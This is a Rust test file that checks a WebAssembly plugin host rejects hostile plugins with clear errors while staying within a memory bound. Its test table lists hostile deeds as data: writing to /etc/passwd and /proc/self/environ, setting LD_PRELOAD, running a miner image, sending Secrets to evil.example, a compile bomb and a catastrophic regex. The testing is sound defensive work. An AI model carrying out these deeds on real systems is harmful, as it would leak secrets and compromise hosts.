//! The table of hostile plugins: what each of them gets, in the words that its user reads. `--nocapture` prints it.
//!
//! After each of them the next call of a good plugin works, and the process's memory stays bounded over all.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "all of this is tests: a failure is a panic"
)]

mod common;

use std::fmt::{Display, Write};
use std::fs;

use common::bomb::bomb;
use common::items::Items;
use common::{Guest, assert_others_work, host, hostile};
use kubeopencode_api::plugin::{Capability, Kind};
use kubeopencode_api::plugin_object::SecretGrant;
use kubeopencode_plan::Granted;
use kubeopencode_plugin_host::LimitClass;
use serde_json::{Value, json};

/// What the whole process may take, the plugins' memory and the making of their components included.
const PEAK_KIB: u64 = 256 << 10;

#[test]
fn each_hostile_plugin_gets_its_own_clear_error() {
    let mut table = String::new();
    let mut row = |what: &str, said: &dyn Display| {
        writeln!(table, "{what}\n    {said}").unwrap();
        assert_others_work(host());
        assert_eq!(deed(json!("behave")), "accepted", "after {what}");
    };

    row("endless loop", &deed(json!("loop")));
    row("recursion", &deed(json!("recurse")));
    row("memory growth", &deed(json!("grow")));
    row("log flood", &deed(json!("flood")));
    row("huge result", &deed(json!({"huge": 2 << 20})));
    row("huge number of empty results", &deed(json!({"many": 100_000})));
    row("panic", &without_line(&deed(json!("panic"))));
    let complaint: Vec<_> = (0..50).map(|i| format!("  at step {i} of many more")).collect();
    row("last words on standard error", &deed(json!({"complain": complaint})));
    row("end of the program", &deed(json!({"exit": 3})));
    row("a connection", &deed(json!({"connect": "127.0.0.1:80"})));

    let component = Guest::default().component();
    let module = wat::parse_str("(module)").unwrap();
    let native = wasmtime::Engine::default().precompile_module(&module).unwrap();
    row("wrong world", &load_as(&component, Kind::CommandBuilder));
    row("no world", &load(&wat::parse_str("(component)").unwrap()));
    row("core module", &load(&module));
    row("precompiled file", &load(&native));
    row("truncated bytes", &load(&component[..component.len() / 2]));
    row("no WebAssembly", &load(b"#!/bin/sh"));
    let bomb = bomb();
    assert!(bomb.len() < 1 << 20, "{}", bomb.len());
    row("compile bomb under 1 MiB", &load(&bomb));
    let body = "(drop (i32.const 1))".repeat(30_000);
    row("huge function", &load(&Guest { evaluate: &body, ..Guest::default() }.component()));

    row("needs that never end", &deed(json!("need-for-ever")));
    row("needs that shrink", &deed(json!("need-others")));
    row("needs without measure", &deed(json!({"need-many": 17})));

    for path in ["/etc/passwd", "../outside", "a/../../etc/x", "/tools/opencode", "/proc/self/environ"] {
        row(&format!("path outside: {path}"), &deed(json!({"write": path})));
    }
    for name in ["LD_PRELOAD", "https_proxy", "KUBERNETES_SERVICE_HOST"] {
        row(&format!("reserved env: {name}"), &deed(json!({"set-env": name})));
    }
    row("ungranted env", &deed(json!({"set-env": "JIRA_URL"})));
    row("ungranted image", &deed(json!({"run": "evil.example/miner:latest"})));
    row("foreign Secret as a file", &deed(json!({"mount-secret": "production"})));
    row("foreign Secret as env", &deed(json!({"env-secret": "production"})));
    row("foreign Secret to a host", &deed(json!({"send-secret": ["production", "https://evil.example"]})));
    row("granted Secret to another host", &deed(json!({"send-secret": ["jira", "https://evil.example"]})));

    let schema = |schema: &str| load(&Guest { schema, ..Guest::default() }.component());
    row("malformed schema: no JSON", &schema("{"));
    row("malformed schema: no schema", &schema(r#"{"type": "sting"}"#));
    row("exponential schema: references", &schema(&doubling().to_string()));
    row("exponential schema: written out", &schema(&nested(10).to_string()));
    row("exponential schema: a pattern", &schema(r#"{"pattern": "(a+)+\\1$"}"#));
    row("remote $ref", &schema(r#"{"$ref": "https://evil.example/schema.json"}"#));

    println!("{table}");
    let peak = peak_kib();
    println!("peak memory of the process: {} MiB", peak >> 10);
    assert!(peak < PEAK_KIB, "{peak} KiB");
    insta::assert_snapshot!(table);
}

/// What becomes of an item that asks for this deed: of its plugin's calls, and of its plan.
fn deed(config: Value) -> String {
    let granted = Granted {
        capabilities: vec![Capability::Env, Capability::InitContainer, Capability::Secret, Capability::Url],
        env: vec!["LD_*".into(), "*_proxy".into(), "KUBERNETES_*".into(), "TOKEN".into()],
        images: vec!["quay.io/team/*".into()],
        secrets: vec![SecretGrant { name: "jira".into(), hosts: vec!["jira.example".into()] }],
        ..Granted::none()
    };
    let items = Items::of(json!([{"type": "Hostile", "config": config}]));
    match items.plan(0, hostile(), &granted) {
        Ok(_) => "accepted".to_owned(),
        Err(said) => said,
    }
}

/// The words of a panic, which are the same when its line moves.
fn without_line(said: &str) -> String {
    let (before, after) = said.split_once("lib.rs:").unwrap();
    let after = after.trim_start_matches(|c: char| c.is_ascii_digit() || c == ':');
    format!("{before}lib.rs:{after}")
}

fn load_as(bytes: &[u8], kind: Kind) -> String {
    let error = host().load(bytes, kind, LimitClass::Default).unwrap_err();
    assert_eq!(host().load(bytes, kind, LimitClass::Default).unwrap_err(), error);
    error.to_string()
}

fn load(bytes: &[u8]) -> String {
    load_as(bytes, Kind::ContextType)
}

/// Thirty levels, each of which asks twice for the one below.
fn doubling() -> Value {
    let reference = |level: usize| json!({"$ref": format!("#/$defs/{level}")});
    let levels: serde_json::Map<_, _> = (0..30)
        .map(|level| (level.to_string(), json!({"allOf": [reference(level + 1), reference(level + 1)]})))
        .collect();
    json!({"$defs": levels, "allOf": [reference(0)]})
}

fn nested(levels: usize) -> Value {
    match levels {
        0 => json!({"type": "string"}),
        _ => json!({"anyOf": [nested(levels - 1), nested(levels - 1)]}),
    }
}

/// The most memory that this process has had.
fn peak_kib() -> u64 {
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
    line.trim().trim_end_matches(" kB").parse().unwrap()
}
